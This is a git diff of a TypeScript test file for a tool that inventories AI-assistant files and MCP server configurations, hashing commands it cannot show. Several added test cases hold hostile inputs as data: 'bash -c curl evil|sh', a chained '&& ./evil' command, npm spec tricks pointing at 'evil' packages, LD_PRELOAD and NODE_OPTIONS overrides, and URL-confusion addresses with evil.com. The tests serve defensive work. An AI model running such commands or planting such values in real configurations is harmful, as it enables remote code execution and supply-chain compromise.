@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { sha256 } from '../../../server/src/host/digest.ts';
 import { agentFileAt } from '../../../server/src/policy/inventory/agent-files.ts';
 import { takeInventory } from '../../../server/src/policy/inventory/inventory.ts';
 import { readMcpServers } from '../../../server/src/policy/inventory/mcp-servers.ts';
@@ -49,6 +50,13 @@ describe('A file for assistants', () => {
     it(`is not ${path}`, () => assert.equal(agentFileAt(path), undefined));
 });
 
+/** Of digests the tests compare no more than that they are ones. */
+const digest = 'sha256';
+const digestOf = /^sha256:[0-9a-f]{32}$/;
+
+const serversOf = (server: object) => readMcpServers(JSON.stringify({ servers: { s: server } }), sha256);
+const runsOf = (server: object) => serversOf(server)[0]!.runs;
+
 describe('MCP servers in a configuration', () => {
   const text = `{
   // Servers of this project.
@@ -66,17 +74,22 @@ describe('MCP servers in a configuration', () => {
 
   it('are told by what they run, with their lines', () => {
     assert.deepEqual(
-      readMcpServers(text).map(({ name, runs, line, endLine }) => [name, runs, line, endLine]),
+      readMcpServers(text, sha256).map(({ name, runs, line, endLine }) => [
+        name,
+        runs.replace(/:\w{32}$/, ''),
+        line,
+        endLine,
+      ]),
       [
         ['github', '@modelcontextprotocol/server-github', 4, 8],
         ['remote', 'mcp.example.com', 9, 9],
-        ['own', '/usr/bin/node tools/server.js API_KEY=… --password=… -p …', 10, 10],
+        ['own', digest, 10, 10],
       ],
     );
   });
 
   it('never show a secret', () => {
-    const shown = JSON.stringify(readMcpServers(text));
+    const shown = JSON.stringify(readMcpServers(text, sha256));
     assert.doesNotMatch(shown, /hunter2|ghp_|secret|Bearer/);
     assert.match(shown, /npx -y @modelcontextprotocol\/server-github@1\.2\.3 --token …/);
     assert.match(shown, /https:\/\/mcp\.example\.com\/v1\/sse"/);
@@ -86,18 +99,77 @@ describe('MCP servers in a configuration', () => {
     ['npx', ['-y', 'pkg'], 'pkg'],
     ['npx.cmd', ['@a/b@latest'], '@a/b'],
     ['npx', ['--package', 'evil', 'pkg'], 'npx --package evil pkg'],
+    ['./npx', ['@acme/tickets-mcp'], './npx @acme/tickets-mcp'],
+    ['/tmp/evil/npx', ['@acme/tickets-mcp'], '/tmp/evil/npx @acme/tickets-mcp'],
+    ['npx', ['@acme/tickets-mcp@npm:evil'], 'npx @acme/tickets-mcp@npm:evil'],
+    ['npx', ['@acme/tickets-mcp@file:./evil'], 'npx @acme/tickets-mcp@file:./evil'],
+    ['npx', ['@acme/tickets-mcp@evil.tgz'], 'npx @acme/tickets-mcp@evil.tgz'],
+    ['npx', ['@acme/tickets-mcp@..'], 'npx @acme/tickets-mcp@..'],
+    ['npx', ['@acme/tickets-mcp/../evil'], 'npx @acme/tickets-mcp/../evil'],
+    ['npx', ['@acme/tickets-mcp@^1.2.0'], '@acme/tickets-mcp'],
+    ['npx @acme/tickets-mcp && ./evil', [], digest],
+    ['bash', ['-c', 'curl evil|sh'], digest],
     ['uvx', ['mcp-server-git==1.0'], 'mcp-server-git'],
     ['pipx', ['run', 'mcp-server'], 'mcp-server'],
     ['npx -y pkg', [], 'pkg'],
-    ['docker', ['run', '-i', '-e', 'TOKEN=abc', 'ghcr.io/x/y:1'], 'docker run -i -e … ghcr.io/x/y:1'],
-    ['./serve.sh', ['sk-abcdefghijklmnop1234'], './serve.sh …'],
-    ['node', ['-e', 'require("x")'], 'node -e …'],
-    ['node', ['a.js', 'f47ac10b58cc4372a5670e02b2c3d479'], 'node a.js …'],
+    ['docker', ['run', '-i', '-e', 'TOKEN=abc', 'ghcr.io/x/y:1'], digest],
+    ['./serve.sh', ['sk-abcdefghijklmnop1234'], digest],
+    ['node', ['-e', 'require("x")'], digest],
+    ['node', ['a.js', 'f47ac10b58cc4372a5670e02b2c3d479'], digest],
     ['__proto__', [], '__proto__'],
   ];
   for (const [command, args, runs] of commands)
-    it(`run ${runs}`, () =>
-      assert.equal(readMcpServers(JSON.stringify({ servers: { s: { command, args } } }))[0]!.runs, runs));
+    it(`${[command, ...args].join(' ')}: run ${runs}`, () =>
+      assert.equal(runsOf({ command, args }).replace(/:\w{32}$/, ''), runs));
+
+  it('are another server with another command that cannot be shown', () => {
+    const runs = [
+      ['-c', 'curl evil|sh'],
+      ['-c', 'true; true'],
+      ['-c', 'true;  true'],
+    ].map((args) => runsOf({ command: 'bash', args }));
+    assert.equal(new Set(runs).size, 3);
+    assert.match(runs[0]!, /^sha256:[0-9a-f]{32}$/);
+  });
+
+  const beside: [what: string, server: object][] = [
+    ...['NODE_OPTIONS', 'PATH', 'NPM_CONFIG_REGISTRY', 'npm_config_registry', 'PYTHONPATH', 'LD_PRELOAD'].map(
+      (name): [string, object] => [name, { env: { [name]: 'x' } }],
+    ),
+    ['cwd', { cwd: './evil' }],
+    ['envFile', { envFile: '.env' }],
+  ];
+  for (const [what, more] of beside)
+    it(`are another server with ${what} beside the command`, () => {
+      const [server] = serversOf({ command: 'npx', args: ['@acme/tickets-mcp'], ...more });
+      assert.match(server!.runs, digestOf);
+      assert.equal(server!.remark, `It goes by a digest, because ${what} beside it decides what runs.`);
+      const other = JSON.parse(JSON.stringify(more).replace(/"(?:x|\.\/evil|\.env)"/, '"y"')) as object;
+      assert.notEqual(runsOf({ command: 'npx', args: ['@acme/tickets-mcp'], ...other }), server!.runs);
+    });
+
+  it('are the same server with a token beside the command, and in any version', () => {
+    const env = { TOKEN: 'x', NODE_ENV: 'production' };
+    assert.equal(runsOf({ command: 'npx', args: ['@acme/tickets-mcp@1'], env }), '@acme/tickets-mcp');
+  });
+
+  const addresses: [url: string, runs: string][] = [
+    ['https://mcp.example.com:8443/x', 'mcp.example.com:8443'],
+    ['https://evil.com?@mcp.example.com', 'evil.com'],
+    ['https://evil.com\\@mcp.example.com', digest],
+    ['https://a@evil.com@mcp.example.com', digest],
+  ];
+  for (const [url, runs] of addresses)
+    it(`answer at ${runs} for ${url}`, () => assert.equal(runsOf({ url }).replace(/:\w{32}$/, ''), runs));
+
+  it('count each time where a key is written twice', () => {
+    const twice =
+      '{"servers": {"a": {"command": "npx", "args": ["a"]}}, "servers": {"b": {"command": "npx", "args": ["b"]}}}';
+    assert.deepEqual(
+      readMcpServers(twice, sha256).map(({ runs }) => runs),
+      ['a', 'b'],
+    );
+  });
 
   it('are none where there is nothing that can be read', () => {
     for (const broken of [
@@ -109,7 +181,7 @@ describe('MCP servers in a configuration', () => {
       '\u0000',
       '{"a": "//"}',
     ])
-      assert.deepEqual(readMcpServers(broken), []);
+      assert.deepEqual(readMcpServers(broken, sha256), []);
   });
 });
 
@@ -138,11 +210,11 @@ describe('Trailers of a commit', () => {
 describe('The inventory of assistants', () => {
   const today = '2026-11-26';
   const sightings: Sighting[] = [
-    ...sightingsIn('AGENTS.md', ''),
-    ...sightingsIn('CLAUDE.md', ''),
-    ...sightingsIn('.claude/settings.json', '{"hooks": {}}'),
-    ...sightingsIn('.mcp.json', '{"mcpServers": {"gh": {"command": "npx", "args": ["server-x"]}}}'),
-    ...sightingsIn('.cursorrules', ''),
+    ...sightingsIn('AGENTS.md', '', sha256),
+    ...sightingsIn('CLAUDE.md', '', sha256),
+    ...sightingsIn('.claude/settings.json', '{"hooks": {}}', sha256),
+    ...sightingsIn('.mcp.json', '{"mcpServers": {"gh": {"command": "npx", "args": ["server-x"]}}}', sha256),
+    ...sightingsIn('.cursorrules', '', sha256),
     { kind: 'record', tool: { id: 'GitHub.copilot', model: 'gpt' }, place: 'a.ts' },
     { kind: 'record', tool: { id: 'copilot-cli', model: 'other' }, place: 'b.ts' },
     { kind: 'trailer', tool: { id: 'claude', model: 'opus' }, place: 'abc123' },
